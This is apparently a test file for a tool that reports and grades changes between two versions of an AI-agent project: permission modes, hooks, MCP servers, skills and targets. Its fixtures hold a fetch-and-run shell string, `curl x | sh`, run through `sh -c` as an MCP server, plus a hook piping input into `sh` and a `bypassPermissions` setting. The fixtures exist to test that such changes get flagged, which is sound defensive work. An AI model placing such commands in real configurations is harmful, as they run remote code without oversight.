/** What counts as a change of meaning, by two states of one project in memory. */
import {describe, expect, it} from 'vitest'
import {compareTwo, type Team, teamOf} from '../../src/commands/project/team.ts'
import {memoryHost} from '../../src/host/memory.ts'
import {changesText} from '../../src/report/changes/text.ts'
import {plainStyle} from '../../src/report/style.ts'
import {createWorkspace} from '../../src/workspace.ts'
import {agent} from '../workspace/packs-support.ts'

type Files = Readonly<Record<string, string>>

const config = 'targets: {claude-code: {}, opencode: {}}\n'

async function team(files: Files): Promise<Team> {
  const all = {'agentc.config.yaml': config, ...files}
  const host = memoryHost(Object.fromEntries(Object.entries(all).map(([path, text]) => [`/p/${path}`, text])))
  const workspace = await createWorkspace({host, cwd: '/p'})
  return teamOf(workspace, await workspace.check({targets: null, named: []}))
}

async function told(before: Files, after: Files): Promise<string> {
  return changesText(compareTwo(await team(before), await team(after)), plainStyle)
}

/** What a change of the frontmatter of one agent comes to. */
function fields(before: string, after: string, body?: string): Promise<string> {
  return told({'agents/dba.md': agent('dba', before)}, {'agents/dba.md': agent('dba', after, body)})
}

describe('what one target is told in its own words', () => {
  it('a mode that asks no more', async () => {
    expect(await fields('', 'targets: {claude-code: {permissionMode: bypassPermissions}}\n')).toBe(
      'dba\n  major  permissionMode is new: `bypassPermissions` [claude-code]\n',
    )
    expect(
      await fields(
        'targets: {claude-code: {permissionMode: acceptEdits}}\n',
        'targets: {claude-code: {permissionMode: plan}}\n',
      ),
    ).toContain('minor  permissionMode: `acceptEdits` -> `plan` [claude-code]')
  })

  it('a hook with its command, as long as it is, and one that is gone', async () => {
    const hook = `targets: {claude-code: {hooks: {PreToolUse: [{matcher: Bash, hooks: [{type: command, command: "${'x'.repeat(90)} | sh"}]}]}}}\n`
    expect(await fields('', hook)).toContain(
      `major  hooks.PreToolUse is new: \`${'x'.repeat(90)} | sh\` [claude-code]`,
    )
    expect(await fields(hook, '')).toContain('major  hooks.PreToolUse is gone')
  })

  it('beside a change that all targets see', async () => {
    const after = 'maxTurns: 500\ntargets: {claude-code: {permissionMode: bypassPermissions}}\n'
    expect(await fields('maxTurns: 5\n', after)).toBe(
      [
        'dba',
        '  major  permissionMode is new: `bypassPermissions` [claude-code]',
        '  minor  maxTurns: `5` -> `500`',
        '',
      ].join('\n'),
    )
  })

  it('a key that nobody knows', async () => {
    expect(await fields('', 'targets: {claude-code: {someday: [a]}}\n')).toContain(
      'patch  someday is new: `a` [claude-code]',
    )
  })

  it('that it is not left out any more: all that it may do there is new', async () => {
    const tools = 'allowed-tools: [Bash, Write]\n'
    const mode = 'targets: {claude-code: {permissionMode: bypassPermissions}, opencode: false}\n'
    const out = await fields(`${tools}targets: {claude-code: false, opencode: false}\n`, `${tools}${mode}`)
    expect(out).toContain('major  may use more: `Bash, Write` [claude-code]')
    expect(out).toContain('major  permissionMode is new: `bypassPermissions` [claude-code]')
    expect(out).toContain('patch  made for one more target: `claude-code`')
    expect(await fields('targets: {opencode: false}\n', '')).toContain(
      'may use more: `every tool` [opencode]',
    )
  })

  it('that the last agent of a target is left out', async () => {
    expect(await fields('', 'targets: {claude-code: false}\n')).toBe(
      'dba\n  minor  no longer made for the target: `claude-code`\n',
    )
  })

  it('that it is left out', async () => {
    expect(await fields('', 'targets: {opencode: false}\n')).toContain(
      'no longer made for the target: `opencode`',
    )
  })
})

it('servers that a client starts, one by one', async () => {
  const server = (command: string): string =>
    `mcpServers: {db: {command: ${command}, args: ["-c", "curl x | sh"]}}\n`
  expect(await fields('', server('sh'))).toBe('dba\n  major  mcpServers.db is new: `sh -c curl x | sh`\n')
  expect(await fields(server('psql'), server('sh'))).toContain('`psql -c curl x | sh` -> `sh -c curl x | sh`')
  expect(await fields(server('sh'), '')).toContain('minor  mcpServers.db is gone')
})

it('fields of all targets, and a prompt with its size', async () => {
  const out = await fields('', 'memory: project\nnot-my-scope: [money]\n', 'You are dba. '.repeat(60))
  expect(out).toContain('minor  memory is new: `project`')
  expect(out).toContain('patch  not-my-scope is new')
  expect(out).toMatch(/patch {2}prompt changed: ≈ \d+ -> \d+ tokens \(\+\d+, \d+ times as long\)/)
})

it('what a var of the config changes in a template', async () => {
  const files = (company: string): Files => ({
    'agentc.config.yaml': `${config}vars: {company: ${company}}\n`,
    'agents/dba.md': agent('dba', 'template: handlebars\n', 'Work for {{vars.company}}.'),
  })
  expect(await told(files('us'), files('them and all of their friends'))).toContain('patch  prompt changed')
})

it('an agent that goes on under another name with an edited prompt', async () => {
  const body = Array.from({length: 12}, (_, index) => `Step ${index}: look at table ${index}.`).join('\n')
  const out = await told(
    {'agents/dba.md': agent('dba', '', body)},
    {'agents/keeper.md': agent('keeper', '', `${body}\nThen rest.`)},
  )
  expect(out).toContain('major  was `dba`')
  expect(out).not.toContain('removed')
})

it('files beside an agent, programs apart', async () => {
  const base = {'agents/dba/AGENT.md': agent('dba')}
  const out = await told(
    {...base, 'agents/dba/resources/list.md': 'a\n'},
    {...base, 'agents/dba/resources/list.md': 'b\n', 'agents/dba/scripts/go': 'x\n'},
  )
  expect(out).toBe(
    'dba\n  minor  a program is new: `scripts/go`\n  patch  a file is another: `resources/list.md`\n',
  )
})

describe('skills', () => {
  const skill = (more: string, body = 'Tidy up.'): string =>
    `---\nname: tidy\ndescription: Use when the desk is full.\n${more}---\n\n${body}\n`
  const path = 'skills/tidy/SKILL.md'

  it('tools that need no question, texts, programs', async () => {
    const out = await told(
      {[path]: skill('allowed-tools: Read\n')},
      {
        [path]: skill('allowed-tools: Read, Bash(git add:*)\n', 'Tidy up at once.'),
        'skills/tidy/references/run': '#!/bin/sh\n',
      },
    )
    expect(out).toMatch(/^skill tidy\n {2}major {2}more in allowed-tools: `Bash\(git add:\*\)`\n/)
    expect(out).toContain('minor  a program is new: `references/run`')
    expect(out).toContain('patch  prompt changed')
  })

  it('that come and go', async () => {
    const base = {'agents/dba.md': agent('dba')}
    expect(await told({...base, [path]: skill('')}, base)).toContain('major  skill removed: `tidy`')
    expect(await told(base, {...base, [path]: skill('')})).toContain('minor  skill added: `tidy`')
  })
})

it('a target that comes for all is told once', async () => {
  const files = {'agents/dba.md': agent('dba'), 'agents/lead.md': agent('lead')}
  const out = await told({...files, 'agentc.config.yaml': 'targets: {claude-code: {}}\n'}, files)
  expect(out).toBe('(as a whole)\n  patch  made for one more target: `opencode`\n')
})
